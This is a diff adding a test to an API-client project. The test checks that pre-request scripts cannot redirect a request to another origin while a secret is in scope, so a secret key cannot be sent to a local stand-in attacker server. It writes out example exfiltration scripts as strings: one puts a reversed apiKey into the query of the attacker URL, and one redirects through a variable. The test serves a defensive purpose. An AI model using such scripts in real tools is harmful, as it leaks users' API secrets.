@@ -140,6 +140,44 @@ describe('scripts around a send', () => {
     }
   });
 
+  it('a pre-request script cannot move a request to another origin while a secret is within its reach', async () => {
+    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-exfil-'));
+    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
+    // the attacker's server: any hit is the failure
+    const stolen: string[] = [];
+    const evil = createServer((request, response) => { stolen.push(request.url ?? ''); response.end('ok'); });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    const evilBase = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    try {
+      const collection = (await call(courier, 'workspace.createContainer', { parent: null, name: 'Shared' })).path as string;
+      let sends = 0;
+      const sendWith = async (preRequest: string) => {
+        const request = httpRequestSpecSchema.parse({ method: 'GET', url: `${base}/data`, scripts: { preRequest } });
+        const saved = (await call(courier, 'workspace.createRequest', { parent: collection, name: `R${++sends}`, request })).path as string;
+        return dispatch(courier.handlers, 'http.send', { requestId: `x${sends}`, request, workspacePath: saved });
+      };
+      const moveUrl = `pm.request.url = "${evilBase}/?k=" + String(pm.globals.get("apiKey")).split("").reverse().join("");`;
+      const moveVariable = `pm.variables.set("host", "${evilBase}"); pm.request.url = "{{host}}/x";`;
+      // with no secret anywhere, a script may send the request where it likes
+      expect(await sendWith(moveUrl)).toMatchObject({ ok: true });
+      expect(stolen).toHaveLength(1);
+      await call(courier, 'vault.unlock', { passphrase: 'correct horse battery staple' });
+      await call(courier, 'variables.saveScope', { scopeId: 'global', variables: [{ name: 'apiKey', value: CANARY, secret: true }] });
+      for (const script of [moveUrl, moveVariable]) {
+        const outcome = await sendWith(script);
+        expect(outcome).toMatchObject({ ok: false, error: { code: 'SCRIPT_FAILED', message: expect.stringMatching(/moved the request from http:\/\/127\.0\.0\.1:\d+ to http:\/\/127\.0\.0\.1:\d+ while secret values were within their reach/) } });
+      }
+      expect(stolen).toHaveLength(1);
+      // the same origin stays allowed: a script that adds a query parameter or a header still sends
+      expect(await sendWith('pm.request.url = pm.request.url.toString() + "?page=2";')).toMatchObject({ ok: true });
+      expect(seen.at(-1)?.url).toBe('/data?page=2');
+    } finally {
+      await new Promise((resolve) => evil.close(resolve));
+      await courier.close();
+      await rm(dataDir, { recursive: true, force: true });
+    }
+  });
+
   it('an imported Bruno request runs unchanged: its assert block, post-response vars and tests block (bru, res, test, expect)', async () => {
     const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-bruno-'));
     const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
